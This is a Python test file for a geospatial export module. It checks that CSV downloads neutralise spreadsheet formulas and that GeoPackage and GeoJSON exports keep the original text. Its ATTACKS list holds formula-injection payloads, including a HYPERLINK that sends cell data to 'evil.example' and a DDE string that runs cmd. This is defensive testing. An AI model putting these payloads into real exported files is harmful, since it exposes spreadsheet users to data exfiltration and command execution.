"""CSV downloads neutralise spreadsheet formulas (issue 9 item 10); GeoPackage and GeoJSON
keep the original text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import geopandas as gpd
import pyogrio
import pytest
from shapely.geometry import Point

from geosafe.publish import exports
from geosafe.publish.catalogue import DEFAULT_PARAMS
from geosafe.publish.layer import make_layer

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Bounds Green Road", "-0.1245", "+44", ""]


def _layer() -> object:
    texts = ATTACKS + PLAIN
    frame = gpd.GeoDataFrame(
        {"location_text": texts, "precision_m": [-5.0] * len(texts)},
        geometry=[Point(529000 + i, 191000) for i in range(len(texts))],
        crs=27700,
    )
    frame.index = [f"i{i}" for i in range(len(texts))]
    return make_layer("bus-stops", frame, DEFAULT_PARAMS, synthetic=False)


def test_csv_neutralises_formulas_and_keeps_data() -> None:
    rows = list(csv.DictReader(io.StringIO(exports.csv_text(_layer()), newline="")))
    got = [r["location_text"] for r in rows]
    assert got[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert got[len(ATTACKS) :] == PLAIN  # plain text and signed numbers untouched
    assert {r["precision_m"] for r in rows} == {"-5.0"}  # numbers stay numbers
    assert all(r["wkt"].startswith("POINT") for r in rows)


@pytest.mark.parametrize("text", ATTACKS)
def test_geopackage_and_geojson_keep_the_original(text: str, tmp_path: Path) -> None:
    layer = _layer()
    fc = json.loads(exports.geojson_text(layer))
    assert text in [f["properties"]["location_text"] for f in fc["features"]]
    path = exports.write_geopackage(layer, tmp_path / "x.gpkg")
    table = pyogrio.read_dataframe(path, layer="bus_stops")
    assert text in table["location_text"].tolist()
